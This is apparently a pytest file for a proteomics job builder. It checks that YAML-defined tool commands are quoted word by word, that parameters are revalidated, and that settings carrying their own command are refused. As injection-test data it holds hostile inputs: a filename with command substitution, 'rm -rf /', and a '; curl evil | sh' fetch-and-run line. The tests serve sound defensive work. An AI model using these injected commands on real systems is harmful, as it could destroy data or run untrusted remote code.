"""Jobs of YAML-defined tools (fast tier): tokens filled word by word and quoted, parameters checked again at job
time, AlphaKraken's own-command settings refused, Sciex file sets handed over whole, AlphaDIA's flags kept as words."""

from __future__ import annotations

import os
import shlex
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from kraken_core.quanting.job_request import SettingsError, build_job_request
from kraken_core.quanting.software import job_entry

NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
CLUSTER = "/cluster/share"
TOOLS = {
    "msqc": {"software_type": "msqc", "executable": "msqc-1.2/run_msqc",
             "arguments": "--raw RAW_FILE_PATH --out=OUTPUT_PATH/qc --rel RELATIVE_OUTPUT_PATH "
                          "--backup RAW_FILE_BACKUP_PATH -t NUM_THREADS --tol TOLERANCE --mode MODE --project PROJECT_ID",
             "parameters": {"tolerance": {"type": "number", "min": 1, "max": 50, "default": 10},
                            "mode": {"type": "choice", "values": ["fast", "full"]}}},
    "diann": {"software_type": "custom", "metrics_type": "diann", "conda_env": "diann-1.9", "executable": "diann",
              "arguments": "--f RAW_FILE_PATH --lib LIBRARY_PATH --out OUTPUT_PATH/report.tsv"},
}


def tool_config(make_config, tmp_path, tools=TOOLS):
    worker = tmp_path / "w"
    locations = {"instruments": {"path": str(worker / "instruments")}}
    for name in ("backup", "output", "settings", "slurm", "software"):
        locations[name] = {"path": str(worker / name), "absolute_path": f"{CLUSTER}/{name}"}
    section = {"enabled": True, "ssh_hosts": ["head1"], "ssh_user": "kraken", "known_hosts_file": "/k", "tools": tools}
    return make_config(locations=locations, quanting=section)


def raw_doc(name="20261102_PRJ1_a.raw", instrument="thermo1", file_info=None):
    return {"_id": name, "original_name": name, "instrument_id": instrument, "project_id": "PRJ1",
            "collision_flag": None, "created_at": datetime(2026, 11, 2, tzinfo=UTC), "size": 100,
            "status": "copying_done", "file_info": file_info or {name: [100, "md5"]}}


def tool_settings(tool="msqc", **fields):
    return {"_id": "qc-v1", "name": "qc", "version": 1, "software": tool, "software_type": "msqc", "tool": tool,
            "tool_parameters": {"mode": "full"}, "num_threads": 2, "speclib_file_name": "lib.speclib", **fields}


def build(config, tmp_path, doc=None, settings=None, folder="msqc"):
    output = tmp_path / "w" / "output" / "PRJ1" / "out_x" / folder
    return build_job_request(config, doc or raw_doc(), settings or tool_settings(), output, NOW)


def test_tokens_are_filled_word_by_word_and_each_word_stays_one_inert_word(make_config, tmp_path):
    name = "x y;$(touch PWNED)`id`'q.raw"
    request = build(tool_config(make_config, tmp_path), tmp_path, raw_doc(name))
    words = shlex.split(request.environment["CUSTOM_COMMAND"])
    raw = f"{CLUSTER}/backup/thermo1/2026_11/{name}"
    assert words == [f"{CLUSTER}/software/msqc-1.2/run_msqc", "--raw", raw, f"--out={CLUSTER}/output/PRJ1/out_x/msqc/qc",
                     "--rel", "PRJ1/out_x/msqc", "--backup", raw, "-t", "2", "--tol", "10.0", "--mode", "full",
                     "--project", "PRJ1"]
    # the job script's own step, run by a real bash: eval of the command only splits it into these words
    software = tmp_path / "cluster-software"
    (software / "msqc-1.2").mkdir(parents=True)
    (software / "msqc-1.2" / "run_msqc").write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    os.chmod(software / "msqc-1.2" / "run_msqc", 0o755)
    command = request.environment["CUSTOM_COMMAND"].replace(f"{CLUSTER}/software", str(software), 1)
    ran = subprocess.run(["bash", "-c", 'eval "$CUSTOM_COMMAND"'], env={"CUSTOM_COMMAND": command, "PATH": "/usr/bin:/bin"},
                         cwd=tmp_path, capture_output=True, text=True, check=True)
    assert ran.stdout.splitlines() == words[1:]
    assert not (tmp_path / "PWNED").exists()


def test_request_carries_the_tools_software_and_metrics_type_to_the_job_entry(make_config, tmp_path):
    config = tool_config(make_config, tmp_path)
    request = build(config, tmp_path, settings=tool_settings("diann", software_type="custom", tool_parameters={}),
                    folder="custom")
    env = request.environment
    assert env["CONDA_ENV"] == "diann-1.9" and env["TOOL_EXECUTABLE"] == "diann" and env["TOOL_NAME"] == "diann"
    assert shlex.split(env["CUSTOM_COMMAND"])[:5] == ["diann", "--f", f"{CLUSTER}/backup/thermo1/2026_11/20261102_PRJ1_a.raw",
                                                      "--lib", f"{CLUSTER}/settings/qc/lib.speclib"]
    entry = job_entry(request.settings, request.output_worker, job_id="1")
    assert (entry["software_type"], entry["metrics_type"], env["METRICS_TYPE"]) == ("custom", "diann", "diann")


@pytest.mark.parametrize(("settings", "words"), [
    (tool_settings(tool_parameters={"mode": "full", "tolerance": 99}), "parameter tolerance of tool msqc: expected a "
                                                                       "number from 1 to 50, got 99"),
    (tool_settings(tool_parameters={"mode": "full", "script": "rm -rf /"}), "declares no such parameter"),
    (tool_settings(tool_parameters={}), "parameter mode: tool msqc needs it, expected one of fast, full"),
    (tool_settings("diann", speclib_file_name=""), "tool diann uses LIBRARY_PATH"),
    (tool_settings("maxquant"), "tool 'maxquant' is not defined in quanting.tools"),
])
def test_settings_that_no_longer_fit_the_yaml_are_refused_at_job_time(make_config, tmp_path, settings, words):
    with pytest.raises(SettingsError) as err:
        build(tool_config(make_config, tmp_path), tmp_path, settings=settings)
    assert words in str(err.value)


def test_an_alphakraken_custom_settings_document_with_its_own_command_is_refused(make_config, tmp_path):
    alphakraken = {"_id": "ak", "name": "custom_tool", "version": 1, "software_type": "custom", "software": "run.sh",
                   "config_params": "--in RAW_FILE_PATH; curl evil | sh"}
    with pytest.raises(SettingsError) as err:
        build(tool_config(make_config, tmp_path), tmp_path, settings=alphakraken)
    message = str(err.value)
    assert "custom_tool v1" in message and "carry their own command" in message
    assert "commands are defined by operators in the YAML (quanting.tools.<name>" in message
    assert "docs/switch-over.md" in message


def test_sciex_file_set_is_handed_over_whole_and_the_tool_opens_the_copy(make_config, tmp_path):
    parts = ["s1.wiff", "s1.wiff.scan", "s1.wiff2", "s1.timeseries.data"]
    doc = raw_doc("s1.wiff", "sciex1", {p: [1, "m"] for p in parts})
    env = build(tool_config(make_config, tmp_path), tmp_path, doc).environment
    base = f"{CLUSTER}/backup/sciex1/2026_11"
    assert sorted(shlex.split(env["RAW_FILE_SET"])) == sorted(f"{base}/{p}" for p in parts)
    assert env["TMP_RAW_DIR"] == f"{CLUSTER}/output/PRJ1/out_x/msqc/tmp_raw_data"
    words = shlex.split(env["CUSTOM_COMMAND"])
    assert words[words.index("--raw") + 1] == f"{env['TMP_RAW_DIR']}/s1.wiff"
    assert words[words.index("--backup") + 1] == f"{base}/s1.wiff"


def test_alphadia_config_params_stay_quoted_words_for_alphadia(make_config, tmp_path):
    alphadia = {"_id": "a", "name": "fast", "version": 2, "software": "alphadia-2.3.0", "software_type": "alphadia",
                "fasta_file_name": "h.fasta", "config_params": "--quant-dir '/x y' ; rm -rf / $(id)"}
    env = build(tool_config(make_config, tmp_path), tmp_path, settings=alphadia, folder="alphadia").environment
    assert shlex.split(env["EXTRA_ARGS"]) == ["--quant-dir", "/x y", ";", "rm", "-rf", "/", "$(id)"]
    assert env["CONDA_ENV"] == "alphadia-2.3.0" and "CUSTOM_COMMAND" not in env and "TOOL_NAME" not in env
